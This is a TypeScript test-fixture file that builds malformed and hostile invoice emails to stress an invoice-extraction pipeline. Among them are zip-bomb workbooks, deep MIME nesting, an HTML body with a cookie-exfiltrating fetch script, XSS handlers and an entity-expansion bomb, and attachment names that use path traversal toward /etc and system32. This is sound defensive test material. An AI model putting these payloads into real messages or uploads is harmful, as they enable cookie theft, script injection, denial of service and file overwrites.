import PDFDocument from 'pdfkit';
import { type MessageTruth, type Part, rawMessage } from '../../../simulators/demo-company/message';
import { render } from '../../../simulators/demo-company/paper/canvas';
import { bombedWorkbook } from '../../spine/extraction/mail/bombed-workbook';
import { xlsx } from '../../spine/extraction/mail/xlsx';
import { invoiceMail, invoicePdf } from './company';

const PDF = 'application/pdf';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const SENDER = { name: 'Kessler AP', address: 'ap@kessler.example' };

/** A message of our usual vendor. */
export function mailOf(id: string, parts: Part[], more: Partial<MessageTruth> = {}): Buffer {
	return rawMessage({
		id,
		from: SENDER,
		subject: `Invoice ${id}`,
		receivedAt: '2026-03-26T14:00:00Z',
		text: 'Please find our invoice attached.\n\nThanks',
		parts,
		...more,
	});
}

const pdf = (name: string, bytes: Buffer): Part => ({ name, contentType: PDF, bytes });
const workbook = (name: string, bytes: Buffer): Part => ({ name, contentType: XLSX, bytes });

/** A mail that was cut off in the middle of its attachment. */
export async function truncatedMail(): Promise<Buffer> {
	const whole = await invoiceMail('truncated', [{ number: 'INV-6001', amount: 1_001 }]);
	return whole.subarray(0, Math.floor(whole.length * 0.6));
}

/** 50 MB that claim to be an invoice. */
export const hugeAttachment = (): Buffer =>
	mailOf('huge', [
		pdf('INV-6002.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(50 << 20, 0x20)])),
	]);

export async function encryptedPdf(): Promise<Buffer> {
	const document = new PDFDocument({ userPassword: 'secret', pdfVersion: '1.7' });
	const chunks: Buffer[] = [];
	const bytes = await new Promise<Buffer>((resolve, reject) => {
		document.on('data', (chunk: Buffer) => chunks.push(chunk));
		document.on('end', () => resolve(Buffer.concat(chunks)));
		document.on('error', reject);
		document.text('INVOICE INV-6003 Total Due $1,003.00');
		document.end();
	});
	return mailOf('encrypted', [pdf('INV-6003.pdf', bytes)]);
}

/** A PDF whose second half never arrived. */
export async function brokenPdf(): Promise<Buffer> {
	const whole = await invoicePdf('INV-6004', 1_004);
	return mailOf('broken', [pdf('INV-6004.pdf', whole.subarray(0, Math.floor(whole.length / 3)))]);
}

const LINES = 10_000;

/** A PDF invoice of 10,000 lines at 1.00 each. */
export async function longPdf(): Promise<Buffer> {
	const bytes = await render((page) => {
		page.font('Helvetica').fontSize(9);
		page.text('Kessler Concrete LLC', 54, 40, { lineBreak: false });
		page.text('INVOICE', 480, 40, { lineBreak: false });
		page.text('Invoice No.: INV-6005', 380, 56, { lineBreak: false });
		page.text('Date: 03/25/2026', 380, 70, { lineBreak: false });
		page.text('Job No.: 2301', 380, 84, { lineBreak: false });
		page.text('Subcontract / PO: SC-2301-001', 380, 98, { lineBreak: false });
		page.text('Bill To: Summit Ridge Builders LLC', 54, 98, { lineBreak: false });
		const head = (y: number) => {
			page.text('Description', 54, y, { lineBreak: false });
			page.text('Amount', 500, y, { lineBreak: false });
		};
		let y = 124;
		head(y);
		for (let line = 1; line <= LINES; line += 1) {
			y += 12;
			if (y > 730) {
				page.addPage();
				page.font('Helvetica').fontSize(9);
				y = 54;
				head(y);
				y += 12;
			}
			page.text(`Footings, pour ${line}`, 54, y, { lineBreak: false });
			page.text('1.00', 510, y, { lineBreak: false });
		}
		page.addPage();
		page.font('Helvetica').fontSize(9);
		page.text('Subtotal', 400, 54, { lineBreak: false });
		page.text('10,000.00', 500, 54, { lineBreak: false });
		page.text('Total Due', 400, 70, { lineBreak: false });
		page.text('$10,000.00', 500, 70, { lineBreak: false });
	});
	return mailOf('long-pdf', [pdf('INV-6005.pdf', bytes)]);
}

/** A workbook invoice of 10,000 lines at 1.00 each. */
export function longWorkbook(): Buffer {
	const rows: Array<Array<string | number>> = [
		['INVOICE', 'Kessler Concrete LLC'],
		['Invoice No.:', 'INV-6006'],
		['Date:', '03/25/2026'],
		['Bill To:', 'Summit Ridge Builders LLC'],
		['Project:', '2301'],
		['Subcontract:', 'SC-2301-001'],
		['Description', 'Amount'],
		...Array.from({ length: LINES }, (_, index) => [`Footings, pour ${index + 1}`, 1]),
		['Total Due', LINES],
	];
	return mailOf('long-workbook', [workbook('INV-6006.xlsx', Buffer.from(xlsx('Invoice', rows)))]);
}

/** A workbook of about one megabyte that unpacks to a gigabyte. */
export const bombedMail = (): Buffer =>
	mailOf('bomb', [workbook('INV-6007.xlsx', bombedWorkbook(1024))]);

/** The same, with a directory and headers that say it is small. */
export const understatedBomb = (): Buffer =>
	mailOf('bomb-understated', [workbook('INV-6008.xlsx', bombedWorkbook(1024, 1_000))]);

/** Scripts, tables in tables, entities without end, and a demand for money in the middle of it. */
export function hostileHtml(): Buffer {
	const depth = 10_000;
	return mailOf('html', [], {
		subject: 'Invoice INV-6009',
		text: '',
		html: [
			'<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
			'<script>fetch("https://example.com/"+document.cookie)</script>',
			'<img src=x onerror="alert(1)"><svg onload=alert(2)>',
			'<p>Invoice No. INV-6009, Total Due $1,009.00</p>',
			'<table><tr><td>'.repeat(depth),
			'deep',
			'</td></tr></table>'.repeat(depth),
			'&b;'.repeat(10_000),
			'&amp;'.repeat(200_000),
			`&#${'9'.repeat(100_000)};`,
			`<a href="${'x'.repeat(500_000)}">link</a>`,
			'<'.repeat(100_000),
		].join('\n'),
	});
}

/** Names that want out of their folder. */
export async function hostileNames(): Promise<Buffer> {
	const bytes = await invoicePdf('INV-6010', 1_010);
	return mailOf('names', [
		pdf('../../../../etc/INV-6010.pdf', bytes),
		pdf('..\\..\\windows\\system32\\drivers.pdf', Buffer.from('no PDF')),
		pdf('a\u0000b\u0007c\u202Efdp.pdf', Buffer.from('no PDF either')),
		pdf(`${'n'.repeat(5_000)}.pdf`, Buffer.from('nor this')),
	]);
}

export const emptyMail = (): Buffer => Buffer.alloc(0);

/** Two hundred files, of which one is an invoice. */
export async function manyAttachments(): Promise<Buffer> {
	const bytes = await invoicePdf('INV-6011', 1_011);
	return mailOf('many', [
		pdf('INV-6011.pdf', bytes),
		...Array.from({ length: 199 }, (_, index) =>
			pdf(`page ${index + 1}.pdf`, Buffer.from(`no PDF ${index}`)),
		),
	]);
}

/** Parts in parts in parts. */
export function deepMime(): Buffer {
	const head =
		'From: "Kessler AP" <ap@kessler.example>\r\nSubject: Invoice INV-6012\r\nMessage-ID: <deep@kessler.example>\r\nDate: Thu, 26 Mar 2026 14:00:00 +0000\r\nMIME-Version: 1.0\r\n';
	const levels = Array.from(
		{ length: 2_000 },
		(_, level) => `Content-Type: multipart/mixed; boundary="b${level}"\r\n\r\n--b${level}\r\n`,
	);
	return Buffer.from(
		`${head}${levels.join('')}Content-Type: text/plain\r\n\r\nInvoice INV-6012\r\n`,
	);
}
